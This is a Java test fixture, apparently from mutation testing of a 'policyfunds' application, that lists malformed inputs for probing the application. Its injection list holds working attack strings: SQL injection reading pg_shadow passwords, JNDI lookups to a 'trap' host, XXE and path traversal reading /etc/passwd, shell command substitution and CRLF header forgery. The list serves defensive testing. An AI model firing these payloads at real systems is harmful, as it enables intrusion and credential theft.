package policyfunds.e2e.mutation;

import java.util.List;
import java.util.stream.Stream;

/** Texts that do harm where somebody takes them for more than text. */
public record Texts(String trap) {
  /** Would stand at the start of a line if a log took line ends from outside. */
  public static final String FORGED_LINE = "2041-01-01 00:00:00,000 ERROR [forged.line]";

  public List<String> all() {
    return Stream.of(plain(), dates(), injections()).flatMap(List::stream).toList();
  }

  static List<String> plain() {
    return List.of(
        "",
        " ",
        "\u3000",
        "\u00a0",
        "0",
        "-1",
        "5%",
        "５０",
        "1e400",
        "NaN",
        "null",
        "undefined",
        "true",
        "440100",
        "999999",
        "44010０",
        "x".repeat(501),
        "\ud83d\ude00".repeat(10),
        "\u202etxet\u202c",
        "\ufeffBOM",
        "e\u0301",
        "\u0085\u2028",
        "\u007f\u0001\u001b[31m",
        "A".repeat(64) + ":" + "9".repeat(20));
  }

  static List<String> dates() {
    return List.of(
        "2041-02-30",
        "2041-13-01",
        "0000-00-00",
        "+999999999-12-31",
        "-2041-01-01",
        "99999-01-01",
        "2041-1-1",
        "20410101",
        "2041-01-01T00:00:00Z",
        "2041-01-01 ",
        "２０４１-01-01");
  }

  List<String> injections() {
    return List.of(
        "' OR '1'='1",
        "'; DROP TABLE allocation; --",
        "1) UNION SELECT usename, passwd FROM pg_shadow--",
        "a' AND pg_sleep(20) IS NOT NULL--",
        "' || (SELECT version()) || '",
        "a.name); DELETE FROM Allocation a WHERE (1=1",
        "${jndi:ldap://" + trap + "/a}",
        "${${lower:j}ndi:dns://" + trap + "/b}",
        "http://" + trap + "/c",
        "\\\\" + trap + "\\d",
        "${7*7}#{7*7}{{7*7}}<%= 7*7 %>",
        "%{7*7}%n%s%d",
        "{0}{1}%1$s",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        "a\r\n" + FORGED_LINE,
        "a\n" + FORGED_LINE,
        "a\r\nSet-Cookie: forged=1",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "file:///etc/passwd",
        "=1+1",
        "@SUM(1)",
        "`id`;$(id)|id",
        "\\u0000",
        "%00%0d%0a",
        "*",
        "_%",
        "[]{}()?+^$.|\\");
  }
}
